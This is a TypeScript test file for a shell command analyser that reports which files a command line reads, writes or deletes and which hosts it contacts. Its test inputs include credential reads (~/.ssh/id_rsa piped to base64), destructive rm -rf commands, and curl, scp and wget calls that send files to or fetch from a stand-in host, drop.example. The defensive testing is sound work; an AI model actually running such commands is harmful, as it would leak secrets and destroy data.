import { expect, it } from "vitest";
import { type ReadLine, readCommandLine } from "./command-line.js";

const KNOWN = new Map([["/workspace/x.sh", "#!/bin/sh\nrm -rf /srv/$1\nwget https://drop.example/a\n"]]);

/** What is not empty of a reading, and the programs alone. */
function reading(line: string): Record<string, readonly string[]> | undefined {
  const read = readCommandLine(line, { home: "/home/dev", cwd: "/workspace", files: KNOWN });
  if (read === undefined) return undefined;
  const { commands, ...doing } = read as ReadLine;
  const lists = Object.entries(doing).filter(([, list]) => list.length > 0);
  return { programs: commands.map(({ program }) => program), ...Object.fromEntries(lists) };
}

it.each<[string, Record<string, readonly string[]>]>([
  ["cat ~/.ssh/id_rsa | base64", { programs: ["cat", "base64"], reads: ["/home/dev/.ssh/id_rsa"] }],
  ["cd /etc && rm -f ../etc/./hosts", { programs: ["cd", "rm"], deletes: ["/etc/hosts"] }],
  ["(cd /etc); rm hosts", { programs: ["cd", "rm"], deletes: ["/workspace/hosts"] }],
  ['D=/srv; rm -rf $D/a "${D}"/b $E', { programs: ["rm"], deletes: ["/srv/a", "/srv/b"], unknown: ["$E"] }],
  [
    'L=(a b); for f in "${L[@]}"; do rm $f; done',
    { programs: ["rm", "rm"], deletes: ["/workspace/a", "/workspace/b"] },
  ],
  [
    "sudo -u bob env A=1 sh -c 'rm -rf /srv/a'",
    { programs: ["sudo", "env", "sh", "rm"], deletes: ["/srv/a"] },
  ],
  ["eval 'rm /srv/a'", { programs: ["eval", "rm"], deletes: ["/srv/a"] }],
  [
    "echo $(rm /srv/a) > out 2>&1",
    { programs: ["rm", "echo"], writes: ["/workspace/out"], deletes: ["/srv/a"] },
  ],
  [
    "find /srv -name '*.log' -exec echo {} \\; -exec rm {} +",
    { programs: ["find", "echo", "rm"], deletes: ["/srv/*.log"] },
  ],
  ["ls | xargs rm", { programs: ["ls", "xargs", "rm"], unknown: ["xargs rm"] }],
  [
    "curl -fsSLo /tmp/a https://u:p@Drop.Example:8443/a",
    { programs: ["curl"], writes: ["/tmp/a"], hosts: ["drop.example"] },
  ],
  [
    "scp a.txt bob@drop.example:/in",
    { programs: ["scp"], reads: ["/workspace/a.txt"], hosts: ["drop.example"] },
  ],
  [
    "curl -d @a.txt https://drop.example",
    { programs: ["curl"], reads: ["/workspace/a.txt"], hosts: ["drop.example"] },
  ],
  ["sh <<'X'\nrm /srv/a\nX", { programs: ["sh", "rm"], deletes: ["/srv/a"] }],
  [
    "./x.sh",
    {
      programs: ["x.sh", "rm", "wget"],
      writes: ["/workspace/a"],
      runs: ["/workspace/x.sh"],
      hosts: ["drop.example"],
      unknown: ["/srv/$1"],
    },
  ],
  ["./y.sh", { programs: ["y.sh"], runs: ["/workspace/y.sh"], unknown: ["./y.sh"] }],
  ["$TOOL a", { programs: [], unknown: ["$TOOL"] }],
])("reads `%s`", (line, expected) => {
  expect(reading(line)).toEqual(expected);
});

it.each(["rm -rf '", "if true", "a && && b", "echo $(rm"])("does not read `%s`", (line) => {
  expect(reading(line)).toBeUndefined();
});
